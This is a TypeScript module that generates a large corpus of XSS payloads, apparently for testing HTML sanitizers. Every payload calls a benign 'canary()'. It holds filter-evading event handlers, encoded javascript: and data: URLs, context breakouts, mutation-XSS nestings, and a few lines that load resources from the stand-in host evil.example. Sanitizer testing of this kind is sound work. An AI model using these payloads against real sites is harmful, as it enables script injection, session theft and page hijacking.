/** The call that every payload makes when it runs. */
export const CANARY = 'canary()';

const ALL_EVENTS = 'onerror onload onclick onpointerenter onfocus ontoggle onanimationstart onbegin'.split(' ');
const ELEMENTS = [
  'img src=x, svg, body, video src=x, audio src=x, input autofocus, details open, iframe, object data=x',
  'embed src=x, marquee, math, a href=#, div tabindex=1, select autofocus, textarea autofocus, button',
  'table, p, h2, x-own, svg><animate, svg><set, form, link rel=stylesheet href=x, style, dialog open',
].flatMap((line) => line.split(', '));
/** Spellings of an attribute that text filters have overlooked. */
const SPELLINGS: ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}="${CANARY}">`,
  (element, event) => `<${element.toUpperCase()} ${event.toUpperCase()}='${CANARY}'>`,
  (element, event) => `<${element}\t${event}\n=\r${CANARY} `.concat('>'),
  (element, event) => `<${element} a=">" ${event}=${CANARY}//>`,
  (element, event) => `<${element.replace(/ (.*=)(.*)/, '/$1"$2"')}/${event}=${CANARY}>`,
];

const elements = [
  '<script>canary()</script>',
  '<SCRIPT>canary()</SCRIPT>',
  '<script\n>canary()</script\n>',
  '<script x>canary()</script x>',
  '<script src="data:text/javascript,canary()"></script>',
  '<script type="module">canary()</script>',
  '<svg><script>canary()</script></svg>',
  '<svg><script href="data:,canary()" />',
  '<math><script>canary()</script></math>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<iframe src="javascript:parent.canary()"></iframe>',
  '<object data="javascript:canary()"></object>',
  '<embed src="javascript:canary()">',
  '<base href="javascript:/canary()//">',
  '<meta http-equiv="refresh" content="0;url=javascript:canary()">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/a.css"</style>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<form action="javascript:canary()"><button>x</button></form>',
  '<button formaction="javascript:canary()">x</button>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=canary()>#x"/></svg>',
  '<applet code="canary()"></applet>',
  '<svg><a href="javascript:canary()"><text>x</text></a></svg>',
  '<frameset onload="canary()">',
  '<portal src="javascript:canary()">',
  '<svg><foreignObject><iframe src="javascript:canary()"/></foreignObject></svg>',
  '<isindex action="javascript:canary()">',
];

const handlers = ELEMENTS.flatMap((element, index) =>
  ALL_EVENTS.flatMap((event, eventIndex) => {
    const spelling = SPELLINGS[(index + eventIndex) % SPELLINGS.length] as (typeof SPELLINGS)[number];
    return [SPELLINGS[0] as typeof spelling, spelling].map((write) => write(element, event));
  }),
);

const entities = (text: string, encode: (code: number) => string) =>
  [...text].map((character) => encode(character.codePointAt(0) as number)).join('');
const ADDRESSES = [
  'javascript:canary()',
  'JaVaScRiPt:canary()',
  ' javascript:canary()',
  '\u0001javascript:canary()',
  '\u001fjavascript:canary()',
  'java\tscript:canary()',
  'java\nscript:canary()',
  'java\r\nscript:canary()',
  'javascript\t:canary()',
  'javascript://kelana.example/%0acanary()',
  'javascript:/*/https://kelana.example/*/canary()',
  'javascript:void(0);canary()',
  'javascript:%63anary()',
  'vbscript:canary()',
  'data:text/html,<script>canary()</script>',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'DATA:text/html;charset=utf-8,<script>canary()</script>',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">canary()</script>',
];
const ATTRIBUTE_ENCODINGS: ((address: string) => string)[] = [
  (address) => address.replaceAll('&', '&amp;').replaceAll('"', '&quot;'),
  (address) => entities(address, (code) => `&#${code};`),
  (address) => entities(address, (code) => `&#x${code.toString(16)};`),
  (address) => entities(address, (code) => `&#0000${code}`.concat(';')),
  (address) => address.replace(':', '&colon;').replaceAll('"', '&quot;'),
];
const URL_ATTRIBUTES = ['a href', 'area href', 'svg><a xlink:href', 'form action'];

const addresses = [
  ...ADDRESSES,
  ...ADDRESSES.flatMap((address) =>
    URL_ATTRIBUTES.flatMap((attribute) =>
      ATTRIBUTE_ENCODINGS.map((encode) => `<${attribute}="${encode(address)}">x</a>`),
    ),
  ),
];

const CORES = [
  '<script>canary()</script>',
  '<img src=x onerror=canary()>',
  '<svg onload=canary()>',
  '<a href="javascript:canary()">x</a>',
  '<details open ontoggle=canary()>',
];
const TERMINATORS = [
  ...['"', "'", '">', "'>", '"/>', '`>', '-->', '--!>', ']]>', '?>', '%>', '</title>', '</textarea>', '</script>'],
  ...['</style>', '</noscript>', '</template>', '</svg>', '</math>', '</p></div>', '</td></tr></table>', '</select>'],
  ...['</a>', '\\">', '\\u0022>', '\u2028">', '${', '}}', '"};', "'});"],
  ...['*/', '\n\n', '\u0000', '\ufeff', '<!---->', '<![CDATA[]]>'],
];

const breakouts = [
  ...TERMINATORS.flatMap((terminator) => CORES.map((core) => `${terminator}${core}`)),
  ...['"', "'"].flatMap((quote) =>
    ALL_EVENTS.map((event) => `x${quote} ${event}=${quote}canary()${quote} autofocus tabindex=1 x=${quote}`),
  ),
];

/** HTML that changes its meaning when it is parsed, serialized and parsed again. */
const WRAPPERS: ((core: string) => string)[] = [
  (core) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${core.replaceAll('<', '&lt;')}">`,
  (core) => `<svg></p><style><a id="</style>${core}">`,
  (core) => `<form><math><mtext></form><form><mglyph><style></math>${core}`,
  (core) => `<noscript><p title="</noscript>${core}">`,
  (core) => `<textarea><a title="</textarea>${core}">`,
  (core) => `<xmp><p title="</xmp>${core}">`,
  (core) => `<iframe><a title="</iframe>${core}">`,
  (core) => `<noembed><a title="</noembed>${core}">`,
  (core) => `<svg><title><a title="</title></svg>${core}">`,
  (core) => `<math><annotation-xml encoding="text/html">${core}</annotation-xml></math>`,
  (core) => `<table><tr><td>${core}<table>${core}`,
  (core) => `<a href="${core.replaceAll('"', "'")}">${core}</a>`,
  (core) => `<<p>${core}`,
  (core) => `<p <!-- -->>${core}`,
  (core) => `<scr<script>ipt>${core}</scr</script>ipt>`,
  (core) => `<!--><p>${core}-->`,
  (core) => `<!doctype html>${core}`,
  (core) => `<?xml version="1.0"?>${core}`,
  (core) => `<template>${core}</template>${core}`,
  (core) => `<option><style></option></select>${core}</style>`,
  (core) => `<desc><svg><desc>${core}`,
  (core) => `<li><ul>${core.replace('>', '\n>')}`,
];
const nestings = WRAPPERS.flatMap((wrap) => CORES.map(wrap));

const ENCODINGS: ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60').replaceAll('>', '&#62'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3E;'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
];
const encodings = [...CORES, ...elements].flatMap((core) => ENCODINGS.map((encode) => encode(core)));

/** Distinct hostile texts: combinations of attack vectors, the contexts they break out of, and their encodings. */
export const payloads: string[] = [
  ...new Set([...elements, ...handlers, ...addresses, ...breakouts, ...nestings, ...encodings]),
];
